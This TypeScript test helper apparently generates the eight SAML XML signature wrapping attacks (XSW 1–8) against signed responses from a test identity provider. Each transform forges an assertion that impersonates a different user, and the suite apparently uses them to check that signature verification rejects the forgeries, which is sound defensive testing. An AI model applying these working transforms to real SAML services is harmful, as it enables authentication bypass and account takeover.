interface Parts {
  open: string
  issuer: string
  responseSignature: string
  status: string
  assertion: string
  assertionSignature: string
}

/** Of a response with both signatures, as test/saml-identity-provider.ts makes it. */
function partsOf(xml: string): Parts {
  const signature = /<ds:Signature[\s\S]*?<\/ds:Signature>/g
  return {
    open: found(xml, /^<samlp:Response[^>]*>/),
    issuer: found(xml, /<saml:Issuer>.*?<\/saml:Issuer>/),
    status: found(xml, /<samlp:Status>.*?<\/samlp:Status>/),
    assertion: found(xml, /<saml:Assertion[\s\S]*<\/saml:Assertion>/),
    responseSignature: found(xml, signature),
    assertionSignature: found(xml, signature, 1),
  }
}

function found(xml: string, part: RegExp, index = 0): string {
  const text = xml.match(part)?.[index]
  if (text === undefined) throw new Error(`There is no ${part.source}.`)
  return text
}

/** Signature wrapping, as named by Somorovsky et al., “On Breaking SAML”: the forged element is read, the signed one checked. */
export const wrappings: Record<string, (xml: string) => string> = {
  'XSW 1, the signed response inside of the forged one’s signature': (xml) => {
    const { open, issuer, responseSignature, status, assertion } = partsOf(xml)
    const original = xml.replace(responseSignature, '')
    const signature = within(responseSignature, original)
    return `${forged(open)}${issuer}${signature}${status}${forged(assertion)}</samlp:Response>`
  },
  'XSW 2, the signed response before a detached signature': (xml) => {
    const { open, issuer, responseSignature, status, assertion } = partsOf(xml)
    const original = xml.replace(responseSignature, '')
    return `${forged(open)}${issuer}${original}${responseSignature}${status}${forged(assertion)}</samlp:Response>`
  },
  'XSW 3, a forged assertion before the signed one': (xml) => {
    const { assertion, assertionSignature } = partsOf(xml)
    return xml.replace(assertion, forged(assertion.replace(assertionSignature, '')) + assertion)
  },
  'XSW 4, the signed assertion inside of a forged one': (xml) => {
    const { assertion, assertionSignature } = partsOf(xml)
    const evil = forged(assertion.replace(assertionSignature, ''))
    return xml.replace(assertion, evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`))
  },
  'XSW 5, the signature in the forged assertion, the signed one after it': (xml) => {
    const { assertion, assertionSignature } = partsOf(xml)
    return xml.replace(assertion, forged(assertion) + assertion.replace(assertionSignature, ''))
  },
  'XSW 6, the signed assertion inside of the forged one’s signature': (xml) => {
    const { assertion, assertionSignature } = partsOf(xml)
    const signature = within(assertionSignature, assertion.replace(assertionSignature, ''))
    return xml.replace(assertion, forged(assertion).replace(assertionSignature, signature))
  },
  'XSW 7, a forged assertion in extensions': (xml) => {
    const { assertion, assertionSignature } = partsOf(xml)
    const evil = forged(assertion.replace(assertionSignature, ''))
    return xml.replace(assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`)
  },
  'XSW 8, the signed assertion in an object of the forged one’s signature': (xml) => {
    const { assertion, assertionSignature } = partsOf(xml)
    const original = assertion.replace(assertionSignature, '')
    const signature = within(assertionSignature, `<ds:Object>${original}</ds:Object>`)
    return xml.replace(assertion, forged(assertion).replace(assertionSignature, signature))
  },
}

function within(signature: string, xml: string): string {
  return signature.replace('</ds:Signature>', `${xml}</ds:Signature>`)
}

/** Another ID, another user. */
function forged(element: string): string {
  return element.replace(/ ID="[^"]+"/, ' ID="_forged"').replace('ann@acme.test', 'olu@lumen.test')
}
